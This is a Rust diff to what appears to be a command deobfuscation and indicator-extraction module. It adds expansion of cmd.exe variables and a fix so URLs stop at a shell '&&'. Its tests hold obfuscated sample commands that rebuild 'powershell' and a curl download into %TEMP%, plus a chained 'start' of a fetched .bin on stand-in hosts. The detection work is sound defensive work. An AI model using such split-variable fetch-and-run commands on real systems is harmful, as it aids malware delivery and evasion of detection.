@@ -489,6 +489,14 @@ static LONG_B64: LazyLock<Regex> =
 /// (256 characters or more) is shortened to a marker, `[encoded N chars]`: it holds no keyword,
 /// `decoded` gives what it hides, and every keyword check would otherwise scan it again.
 pub fn deobfuscate(text: &str) -> String {
+    let expanded;
+    let text = match expand_cmd_vars(text) {
+        Some(x) => {
+            expanded = format!("{text}\n{x}");
+            expanded.as_str()
+        }
+        None => text,
+    };
     let shortened = LONG_B64.replace_all(text, |c: &regex::Captures<'_>| {
         format!("[encoded {} chars]", c[0].len())
     });
@@ -526,6 +534,54 @@ pub fn deobfuscate(text: &str) -> String {
         }
     }
     out
+}
+
+static CMD_SET: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"(?i)\bset\s+"?([a-z_][a-z0-9_#$@.-]{0,30})=([^&|"\r\n]*)"#).expect("static regex")
+});
+static CMD_VAR_USE: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"%([^%!\s]{1,31})%|!([^%!\s]{1,31})!").expect("static regex"));
+
+/// cmd.exe's variables put back where they are used: `set u=ht&&set v=tps://x&&curl !u!!v!`
+/// reads `curl https://x`. Returns the text with every `%name%` / `!name!` of a variable the
+/// text itself sets replaced (three rounds, for variables built from variables), or `None`
+/// when nothing changes. Bounded: 64 variables, inputs up to 64 KiB.
+pub fn expand_cmd_vars(text: &str) -> Option<String> {
+    if text.len() > 64 * 1024 || !(text.contains('%') || text.contains('!')) {
+        return None;
+    }
+    let lower = text.to_ascii_lowercase();
+    if !lower.contains("set ") {
+        return None;
+    }
+    let vars: Vec<(String, String)> = CMD_SET
+        .captures_iter(text)
+        .take(64)
+        .map(|c| (c[1].to_ascii_lowercase(), c[2].to_owned()))
+        .collect();
+    if vars.is_empty() {
+        return None;
+    }
+    let mut out = text.to_owned();
+    for _ in 0..3 {
+        let next = CMD_VAR_USE.replace_all(&out, |c: &regex::Captures<'_>| {
+            let name = c.get(1).or_else(|| c.get(2)).map_or("", |m| m.as_str());
+            let name = name.to_ascii_lowercase();
+            // The last assignment wins, as cmd runs them in order.
+            match vars.iter().rev().find(|(k, _)| *k == name) {
+                Some((_, v)) => v.clone(),
+                None => c[0].to_owned(),
+            }
+        });
+        if next == out {
+            break;
+        }
+        out = next.into_owned();
+        if out.len() > MAX_DECODED {
+            break;
+        }
+    }
+    (out != text).then_some(out)
 }
 
 static WRITTEN_SCRIPT: LazyLock<Regex> = LazyLock::new(|| {
@@ -1004,7 +1060,9 @@ static URL: LazyLock<Regex> = LazyLock::new(|| {
 pub fn urls(text: &str) -> Vec<String> {
     let mut out: Vec<String> = Vec::new();
     for m in URL.find_iter(text).take(256) {
-        let u = m.as_str().trim_end_matches(['.', ':', '!', '?']);
+        // A shell's `&&` (cmd, sh) ends the command, not the URL.
+        let u = m.as_str().split("&&").next().unwrap_or_default();
+        let u = u.trim_end_matches(['.', ':', '!', '?', '&']);
         if url_host(u).is_some_and(|h| !h.is_empty()) && !out.iter().any(|x| x == u) {
             out.push(u.to_owned());
         }
@@ -1140,6 +1198,19 @@ mod tests {
     use super::*;
 
     #[test]
+    fn cmd_variables_are_put_back_where_they_are_used() {
+        let t = r#"cmd /v:on /c "set u=ht&&set v=tps://x.example/a&&curl -o %TEMP%\r.pdf !u!!v!/r.pdf""#;
+        let x = expand_cmd_vars(t).unwrap();
+        assert!(x.contains("curl -o %TEMP%\\r.pdf https://x.example/a/r.pdf"), "{x}");
+        assert!(deobfuscate(t).contains("https://x.example/a/r.pdf"));
+        // Variables built from variables; unknown ones stay; nothing to do gives None.
+        let y = expand_cmd_vars("set a=po&& set b=%a%wershell&& %b% -c 1 %path%").unwrap();
+        assert!(y.ends_with("powershell -c 1 %path%"), "{y}");
+        assert_eq!(expand_cmd_vars("echo %path% !x!"), None);
+        assert_eq!(expand_cmd_vars("set a=b"), None);
+    }
+
+    #[test]
     fn deobfuscate_whitespace_matches_the_regex() {
         let ws = Regex::new(r"\s+").unwrap();
         for t in [
@@ -1259,6 +1330,10 @@ mod tests {
             ]
         );
         assert_eq!(ips(t), vec!["198.51.100.7", "8.8.8.8"]);
+        assert_eq!(
+            urls("curl https://x.example/a?b=1&c=2&&start https://y.example/u.bin&&%public%"),
+            vec!["https://x.example/a?b=1&c=2", "https://y.example/u.bin"]
+        );
         assert_eq!(
             ips("Assembly.Load(\"System.Web, Version=4.0.0.0, Culture=neutral\"); version='2.0.0.1' 203.0.113.9"),
             vec!["203.0.113.9"],
